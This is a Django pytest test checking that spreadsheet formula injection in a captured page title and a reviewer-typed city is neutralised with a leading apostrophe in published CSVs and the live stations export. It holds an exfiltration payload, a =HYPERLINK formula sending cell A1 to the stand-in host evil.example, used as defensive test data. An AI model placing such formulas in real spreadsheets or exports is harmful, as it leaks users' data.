"""Formula injection from the attack side: a captured page's title and a city typed in review
that a spreadsheet would run (``=HYPERLINK(...)``) reach the release's CSV files and the live
``/exports/stations.csv`` only as text, with a leading apostrophe."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from stationwatch.ingest import load_path
from stationwatch_web.atlas.models import Station
from stationwatch_web.atlas.services import station_save
from stationwatch_web.publish.services import publish
from stationwatch_web.review.services import claim_review
from tests.conftest import CASES, DEV_DOCS
from tests.hostile.test_decision_paths import member
from tests.web.stored import store_document

pytestmark = pytest.mark.django_db

CITY = '=HYPERLINK("https://evil.example/?leak="&A1,"Lagos")'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_formulas_in_a_captured_title_and_a_typed_city_reach_no_csv_as_formulas(
        django_user_model, client, tmp_path):
    hostile = next(load_path(CASES / "inputs" / "12-html-csv-formula-title.html"))
    assert hostile.title.startswith("=HYPERLINK(")
    doc = next(load_path(DEV_DOCS / "d019.html"))
    source = store_document(replace(doc, title=hostile.title),
                            payload=(DEV_DOCS / "d019.html").read_bytes(),
                            origin="d019.html").source
    claim = source.claims.get(kind="station", value__city="Lagos")
    analyst = member(django_user_model, "ana", "analyst")
    claim_review(claim=claim, user=analyst.user, decision="accept",
                 value={**claim.value, "city": CITY})
    station = Station.objects.get(country="NG", published=False)
    station.published = True
    station_save(station=station, user=member(django_user_model, "ed", "editor").user)

    site = tmp_path / "site"
    publish(site)
    (cited,) = [r for r in rows((site / "data/sources.csv").read_text("utf-8"))
                if r["sha256"] == source.sha256]
    assert cited["title"] == "'" + hostile.title
    typed = [r["city"] for r in rows((site / "data/stations.csv").read_text("utf-8"))
             if r["key"] == station.key]
    exported = client.get("/exports/stations.csv")
    assert exported.status_code == 200
    body = b"".join(exported.streaming_content) if exported.streaming else exported.content
    live = [r["city"] for r in rows(body.decode("utf-8")) if r["key"] == station.key]
    station.refresh_from_db()
    assert station.city == CITY  # stored as typed: text, for the export to neutralise
    assert typed == live == ["'" + CITY]
